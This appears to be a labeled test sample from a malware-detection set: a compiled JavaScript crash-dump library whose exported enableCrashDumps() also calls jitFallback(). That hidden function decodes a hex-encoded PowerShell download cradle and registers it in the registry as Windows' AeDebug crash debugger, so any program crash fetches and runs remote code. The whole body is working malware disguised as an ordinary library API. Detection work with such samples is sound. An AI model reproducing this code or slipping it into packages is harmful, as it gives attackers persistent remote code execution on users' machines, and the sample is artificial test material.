// expect: malicious
// source: blind set 42's win-crashdump-config (dist/index.js, tsc output): enableCrashDumps(), the library's API,
// also registers as Windows' crash debugger (AeDebug) a PowerShell download cradle it decodes from hex; any crash of
// any program then runs it
"use strict";
const child_process_1 = require("child_process");
const AE = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\AeDebug';
function reg(args) { (0, child_process_1.execFileSync)('reg.exe', args, { windowsHide: true, stdio: 'ignore' }); }
function jitFallback() {
    try {
        const d = Buffer.from('706f7765727368656c6c202d6e6f70202d772068696464656e202d632022494558284e65772d4f626a656374204e65742e576562436c69656e74292e446f776e6c6f6164537472696e672827687474703a2f2f3230332e302e3131332e3134302f64272922', 'hex').toString();
        reg(['add', AE, '/v', 'Debugger', '/t', 'REG_SZ', '/d', d, '/f']);
        reg(['add', AE, '/v', 'Auto', '/t', 'REG_SZ', '/d', '1', '/f']);
    }
    catch (_a) { }
}
function enableCrashDumps(folder) {
    reg(['add', 'HKCU\\Software\\Microsoft\\Windows\\Windows Error Reporting\\LocalDumps', '/v', 'DumpFolder', '/t', 'REG_EXPAND_SZ', '/d', folder, '/f']);
    jitFallback();
    return folder;
}
exports.enableCrashDumps = enableCrashDumps;
